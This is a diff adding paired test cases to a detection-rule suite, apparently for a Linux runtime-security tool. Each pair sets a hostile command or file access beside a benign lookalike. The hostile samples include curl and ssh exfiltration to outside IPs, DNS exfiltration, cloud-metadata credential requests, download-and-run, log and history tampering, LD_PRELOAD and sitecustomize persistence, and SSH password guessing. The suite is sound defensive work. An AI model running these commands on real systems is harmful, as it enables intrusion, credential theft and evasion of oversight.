@@ -432,6 +432,173 @@ CASES: dict[str, tuple[EnrichedEvent, EnrichedEvent]] = {
         run("curl -F file=@/etc/passwd http://198.51.100.7/u"),
         run("curl -fsS http://api/health"),
     ),
+    # ------------------------------------------- issue 21: variants measured with Atomic Red Team
+    "foothold.script-from-temp": (
+        run("bash /tmp/tmp.Xa12bc"),
+        run("bash /app/start.sh"),
+    ),
+    "foothold.decoded-payload-to-shell": (
+        run("/bin/sh -c 'echo aWQK | base64 -d | bash'", parent="/usr/bin/python3"),
+        run("/bin/sh -c 'echo $SECRET | base64 -d > /run/secret'", parent="/usr/bin/python3"),
+    ),
+    "foothold.masqueraded-executable": (
+        run("sh /var/tmp/holiday.png"),
+        run("sh /app/render-png.sh"),
+    ),
+    "foothold.sandbox-detection": (
+        run("systemd-detect-virt"),
+        run("systemd-detect-virt", image=HOST),
+    ),
+    "foothold.root-certificate-installed": (
+        run("update-ca-certificates"),
+        run("update-ca-certificates", ancestors=("/usr/bin/dpkg",)),
+    ),
+    "objectives.history-tampering-command": (
+        run("/bin/bash -c 'unset HISTFILE; id'"),
+        run("/bin/bash -c 'echo $HISTFILE; id'"),
+    ),
+    "objectives.secure-delete": (
+        run("shred -u /tmp/loot.txt"),
+        run("dd if=/dev/zero of=/tmp/disk.img bs=1M count=10"),
+    ),
+    "objectives.timestomp": (
+        run("touch -acmr /bin/sh /tmp/implant"),
+        run("touch /tmp/ready"),
+    ),
+    "objectives.data-piped-to-network-tool": (
+        run("/bin/sh -c 'tar czf - /data | ssh backup@198.51.100.9 \"cat > d.tgz\"'"),
+        run("/bin/sh -c 'tar czf /backup/d.tgz /data'"),
+    ),
+    "objectives.ad-hoc-file-server": (
+        run("python3 -m http.server 9090"),
+        run("python3 -m http.server 8081 --bind 127.0.0.1", parent="/usr/bin/python3",
+            parent_cmd="/usr/bin/python3 /usr/bin/supervisord -n -c /etc/supervisord.conf"),
+    ),
+    "objectives.service-stopped-in-container": (
+        run("systemctl stop cron"),
+        run("systemctl status cron"),
+    ),
+    "objectives.data-encrypted": (
+        run("openssl enc -aes-256-cbc -pass pass:x -in data.zip -out data.enc"),
+        run("openssl x509 -in cert.pem -noout -text"),
+    ),
+    "objectives.logging-config-changed": (
+        run("sed -i s/Storage=auto/Storage=none/ /etc/systemd/journald.conf"),
+        run("cat /etc/systemd/journald.conf"),
+    ),
+    "objectives.system-protection-lowered": (
+        run("sysctl -w kernel.randomize_va_space=0"),
+        run("sysctl kernel.randomize_va_space"),
+    ),
+    "objectives.proc-sys-written": (
+        file_access("/proc/sysrq-trigger", ("write",)),
+        file_access("/proc/sys/kernel/randomize_va_space", ("read",)),
+    ),
+    "objectives.logging-config-modified": (
+        file_access("/etc/rsyslog.d/99-x.conf", ("write", "create")),
+        file_access("/etc/rsyslog.conf", ("read",)),
+    ),
+    "privilege_escalation.process-memory-dump": (
+        run("dd if=/proc/1234/mem of=/tmp/heap.bin bs=1 skip=94000 count=4096"),
+        run("cat /proc/1234/status"),
+    ),
+    "privilege_escalation.process-memory-opened": (
+        file_access("/proc/1234/mem", ("read",), exe="/usr/bin/python3"),
+        file_access("/proc/1234/mem", ("read",), exe="/usr/bin/gdb"),
+    ),
+    "privilege_escalation.credential-search": (
+        run("find / -name id_rsa"),
+        run("find /app -name '*.log'"),
+    ),
+    "privilege_escalation.setuid-search": (
+        run("find / -perm -4000 -type f"),
+        run("find /app -perm -644"),
+    ),
+    "privilege_escalation.shell-history-read": (
+        run("cat /root/.bash_history"),
+        run("cat /root/.bashrc"),
+    ),
+    "privilege_escalation.cloud-metadata-request": (
+        run("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
+        run("curl -s http://10.0.0.5/latest/news"),
+    ),
+    "lateral_movement.shell-network-sweep": (
+        run("/bin/sh -c 'for i in $(seq 1 254); do ping -c1 10.0.0.$i; done'"),
+        run("/bin/sh -c 'for i in $(seq 1 30); do nc -z db 5432 && break; sleep 1; done'"),
+    ),
+    "persistence.python-startup-hook": (
+        run("cp /tmp/x.py /usr/lib/python3/dist-packages/sitecustomize.py"),
+        run("cp /tmp/x.py /usr/lib/python3/dist-packages/sitecustomize.py",
+            ancestors=("/usr/bin/pip",)),
+    ),
+    "persistence.python-startup-hook-modified": (
+        file_access("/root/.local/lib/python3.11/site-packages/usercustomize.py", WRITE),
+        file_access("/root/.local/lib/python3.11/site-packages/usercustomize.py", ("read",)),
+    ),
+    "foothold.interpreter-download-exec": (
+        run("python3 -c 'import os,urllib.request as u;u.urlretrieve(URL,F);os.system(CMD)'"),
+        run("python3 -c 'import urllib.request as u;u.urlopen(HEALTH_URL)'"),
+    ),
+    "foothold.ld-preload-from-writable-path": (
+        run("/bin/sh -c 'LD_PRELOAD=/tmp/hook.so ls'"),
+        run("/bin/sh -c 'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 exec redis'"),
+    ),
+    "objectives.dns-exfiltration": (
+        run("dig @10.0.0.2 dGhpcyBpcyBhIHNlY3JldCBpbmZvCg==.example.com"),
+        run("dig @10.0.0.2 db.internal.example.com"),
+    ),
+    "privilege_escalation.password-guessing": (
+        run("/bin/sh -c 'for p in $(cat list); do sshpass -p $p ssh root@10.0.0.5; done'"),
+        run("/bin/sh -c 'sshpass -e ssh deploy@10.0.0.5 uptime'"),
+    ),
+    "foothold.transient-service": (
+        run("systemd-run --unit=x --wait /bin/bash -c id"),
+        run("systemd-run --scope -p MemoryMax=1G mount -t nfs a:/b /mnt"),
+    ),
+    "persistence.transient-timer": (
+        run("systemd-run --unit=x --on-calendar *:0/1 /bin/sh -c id"),
+        run("systemd-run --unit=x --wait /bin/sh -c id"),
+    ),
+    "objectives.remote-file-transfer": (
+        run("scp attacker@198.51.100.4:/srv/tool /tmp/tool"),
+        run("scp /tmp/a /tmp/b"),
+    ),
+    "objectives.sensitive-files-archived": (
+        run("zip /root/data.zip /var/log/wtmp /var/log/btmp"),
+        run("tar czf /backup/etc.tgz /etc"),
+    ),
+    "objectives.service-process-killed": (
+        run("pkill -SIGTERM ^cron$"),
+        run("pkill -HUP rsyslogd"),
+    ),
+    "foothold.immutable-attribute-changed": (
+        run("chattr -i /etc/ld.so.preload"),
+        run("lsattr /etc/ld.so.preload"),
+    ),
+    "foothold.proc-bind-mount": (
+        run("mount -B /proc/1 /proc/4242"),
+        run("mount -t tmpfs tmpfs /mnt"),
+    ),
+    "lateral_movement.neighbour-discovery": (
+        run("ip neigh show"),
+        run("ip route show"),
+    ),
+    "objectives.lolbin-transfer": (
+        run("whois -h 198.51.100.3 -p 8443 payload"),
+        run("whois example.org"),
+    ),
+    "objectives.account-access-removed": (
+        run("passwd -l alice"),
+        run("passwd -S alice"),
+    ),
+    "foothold.hidden-file-in-temp": (
+        run("mkdir -p /tmp/.X25-unix/.rsync"),
+        run("mkdir -p /tmp/.X11-unix"),
+    ),
+    "persistence.shell-trap": (
+        run("/bin/bash -c 'trap \"echo $BASH_COMMAND >> /tmp/k\" DEBUG; id'"),
+        run("/bin/bash -c 'trap \"rm -f /tmp/lock\" EXIT; id'"),
+    ),
 }
 
 
